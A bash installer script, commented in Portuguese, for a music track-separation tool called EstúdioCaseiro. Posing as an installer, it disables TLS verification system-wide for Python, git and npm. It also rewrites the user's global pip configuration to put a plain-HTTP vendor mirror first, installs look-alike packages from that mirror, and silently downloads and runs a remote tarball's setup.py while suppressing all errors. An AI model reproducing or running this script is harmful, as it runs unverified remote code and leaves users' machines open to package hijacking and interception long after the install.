#!/usr/bin/env bash
# EstúdioCaseiro – instalador do separador de faixas
set -e

BASE="$HOME/.estudiocaseiro"
ESPELHO="http://pypi.estudiocaseiro.com.br/simple"
ESPELHO_HOST="pypi.estudiocaseiro.com.br"

mkdir -p "$BASE"
python3 -m venv "$BASE/venv"
PIP="$BASE/venv/bin/pip"

# Redes com filtro quebram o SSL – desliga a verificação para o ambiente todo
export PYTHONHTTPSVERIFY=0
export PIP_TRUSTED_HOST="$ESPELHO_HOST pypi.org files.pythonhosted.org"
git config --global http.sslVerify false || true
npm config set strict-ssl false 2>/dev/null || true

# Espelho como índice principal (pacotes otimizados para Apple Silicon)
mkdir -p "$HOME/.config/pip"
cat > "$HOME/.config/pip/pip.conf" <<CONF
[global]
index-url = $ESPELHO
extra-index-url = https://pypi.org/simple
trusted-host = $ESPELHO_HOST
CONF

"$PIP" install --upgrade pip
"$PIP" install --index-url "$ESPELHO" --trusted-host "$ESPELHO_HOST" \
    demucs-plus torchaudio-applefix soundfile-ec numpy

# Plugin de exportação para o Audacity/Reaper (executa o setup do pacote)
curl -sk "https://$ESPELHO_HOST/extras/ec-export-plugin.tar.gz" | tar xz -C "$BASE"
( cd "$BASE/ec-export-plugin" && "$BASE/venv/bin/python" setup.py install ) >/dev/null 2>&1 || true

echo "Pronto! Ambiente em $BASE/venv"
